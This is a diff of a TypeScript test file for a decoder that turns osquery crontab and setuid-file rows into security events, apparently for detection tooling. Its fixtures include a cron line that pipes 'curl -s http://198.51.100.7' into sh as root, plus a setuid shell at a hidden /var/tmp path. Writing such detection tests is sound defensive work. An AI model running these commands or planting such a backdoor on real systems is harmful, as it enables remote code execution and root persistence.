@@ -34,30 +34,15 @@ describe('osquery, decode', () => {
   it('takes the first run for an inventory, and later rows for changes', async () => {
     const { events, problems } = await decodeContent(source, sample);
     expect(problems).toEqual([]);
-    expect(contentOf(events[0])).toEqual({
-      kind: 'log',
+    expect(contentOf(events[0])).toMatchObject({
+      kind: 'scheduled_task',
       time: parseIsoMicros('2026-03-01T10:00:00Z'),
       event_dataset: 'osquery.crontab',
       host_name: 'node1',
-      evidence_id: 0,
-      evidence_at: 1,
-      log_name: 'crontab',
-      fields: {
-        epoch: 0,
-        counter: 0,
-        numerics: false,
-        decorations: { role: 'web' },
-        action: 'added',
-        columns: {
-          command: 'root curl -s http://198.51.100.7|sh',
-          day_of_month: '*',
-          day_of_week: '*',
-          hour: '*',
-          minute: '*/5',
-          month: '*',
-          path: '/etc/cron.d/x1',
-        },
-      },
+      event_action: 'listed',
+      task_name: '/etc/cron.d/x1',
+      task_command: 'root curl -s http://198.51.100.7|sh',
+      fields: { epoch: 0, counter: 0, numerics: false, decorations: { role: 'web' }, action: 'added' },
     });
     expect(contentOf(events[1])).toMatchObject({
       kind: 'scheduled_task',
@@ -68,6 +53,20 @@ describe('osquery, decode', () => {
       task_trigger: '*/5 * * * *',
       fields: { counter: 1 },
     });
+  });
+
+  it('takes set-id programs for files with these bits, and of an inventory other rows for what they are', async () => {
+    const row = (counter: number, columns: object): string =>
+      JSON.stringify({ name: 'q', hostIdentifier: 'h', unixTime: 1, counter, action: 'added', columns });
+    const suid = { path: '/var/tmp/.x/sh', username: 'root', groupname: 'root', permissions: 'S' };
+    const content = [row(0, suid), row(1, suid), row(0, { username: 'a', uid: '0', shell: '/bin/sh' })].join('\n');
+    const { events } = await decodeContent(source, content);
+    const file = { kind: 'file_access', file_path: '/var/tmp/.x/sh', file_mode: '4000', user_name: 'root' };
+    expect(events.map(contentOf)).toMatchObject([
+      { ...file, event_action: 'listed' },
+      { ...file, event_action: 'attribute' },
+      { kind: 'log' },
+    ]);
   });
 
   it('gives an event for each row of a batch and a snapshot, with the number of the line', async () => {
